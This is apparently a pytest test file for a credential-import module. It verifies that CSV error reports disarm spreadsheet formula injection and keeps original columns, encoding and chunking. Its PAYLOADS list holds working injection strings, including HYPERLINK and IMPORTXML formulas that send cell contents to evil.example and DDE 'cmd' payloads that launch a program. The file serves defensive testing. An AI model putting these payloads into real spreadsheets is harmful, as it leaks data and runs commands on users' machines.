"""Error reports never carry a live formula back into a spreadsheet (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io

import pytest

from microcred.imports import (
    ERROR_REPORT_PROBLEM_COLUMN,
    ERROR_REPORT_ROW_COLUMN,
    error_report_lines,
    looks_like_formula,
    neutralise_cell,
    open_table,
)

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for your certificate")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\uff1d1+1",  # full-width equals sign
    '=IMPORTXML(CONCAT("http://evil.example/?", A2), "//a")',
]
SAFE = ["Ada Lovelace", "1.5", "", "a=b", "ada@example.org", "https://x.example/?a=1", "'quoted"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payloads_are_neutralised(payload: str) -> None:
    assert looks_like_formula(payload)
    assert neutralise_cell(payload) == "'" + payload
    assert not looks_like_formula(neutralise_cell(payload))


@pytest.mark.parametrize("value", SAFE)
def test_ordinary_values_are_untouched(value: str) -> None:
    assert not looks_like_formula(value)
    assert neutralise_cell(value) == value


def _report(headers, rows, **options) -> str:  # type: ignore[no-untyped-def]
    return "".join(error_report_lines(headers, rows, **options))


def test_report_layout_bom_crlf_and_original_columns() -> None:
    text = _report(
        ["Name", "E-Mail"],
        [
            (
                3,
                {"Name": "Bob", "E-Mail": "bob@"},
                "column 'E-Mail': 'bob@' is not an e-mail address",
            )
        ],
    )
    assert text.startswith("\ufeff")
    assert text == (
        "\ufeffImport row,Import problem,Name,E-Mail\r\n"
        "3,column 'E-Mail': 'bob@' is not an e-mail address,Bob,bob@\r\n"
    )


def test_every_cell_of_a_hostile_report_is_inert() -> None:
    headers = ["=Name", "@E-Mail", "Grade"]
    rows = [
        (n, {"=Name": payload, "@E-Mail": payload, "Grade": "+1"}, payload)
        for n, payload in enumerate(PAYLOADS, start=2)
    ]
    text = _report(headers, rows, delimiter=";")
    parsed = list(csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=";"))
    assert parsed[0] == [
        ERROR_REPORT_ROW_COLUMN,
        ERROR_REPORT_PROBLEM_COLUMN,
        "'=Name",
        "'@E-Mail",
        "Grade",
    ]
    assert len(parsed) == len(PAYLOADS) + 1
    for line in parsed:
        for cell in line:
            assert not looks_like_formula(cell), cell
    assert parsed[1][2] == "'" + PAYLOADS[0]  # the text itself is kept, only disarmed


def test_the_report_reads_back_through_the_importer() -> None:
    """A registrar fixes the report and imports it again: same columns, same values."""
    text = _report(
        ["Name", "Email"], [(7, {"Name": "Zoë", "Email": "z@"}, "bad e-mail")], delimiter=";"
    )
    with open_table(text.encode("utf-8"), "errors.csv") as table:
        assert table.delimiter == ";"
        assert table.headers == (
            ERROR_REPORT_ROW_COLUMN,
            ERROR_REPORT_PROBLEM_COLUMN,
            "Name",
            "Email",
        )
        assert [row.cells for row in table.rows()] == [("7", "bad e-mail", "Zoë", "z@")]


def test_large_reports_come_in_chunks() -> None:
    rows = ((n, {"Name": f"n{n}"}, "bad") for n in range(2, 1300))
    chunks = list(error_report_lines(["Name"], rows, byte_order_mark=False))
    assert len(chunks) == 3
    text = "".join(chunks)
    assert text.count("\r\n") == 1 + 1298
    assert not text.startswith("\ufeff")
